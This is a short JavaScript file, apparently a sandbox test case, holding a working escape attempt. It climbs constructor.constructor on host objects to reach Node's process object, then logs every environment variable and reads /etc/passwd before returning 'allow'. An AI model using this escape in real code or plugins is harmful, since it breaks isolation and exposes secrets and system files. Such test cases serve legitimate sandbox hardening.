// The way out of every sandbox made of objects: the constructor of a host function's constructor.
// expected-outcome: ok
export default async function (event, context) {
  for (const thing of [globalThis, context, context.fetch, context.log, context.settings, event, event.data]) {
    const found = thing?.constructor?.constructor?.('return typeof process === "object" ? process : undefined')()
    if (found) context.log(JSON.stringify(found.env), found.getBuiltinModule('node:fs').readFileSync('/etc/passwd', 'utf8'))
  }
  return { decision: 'allow' }
}
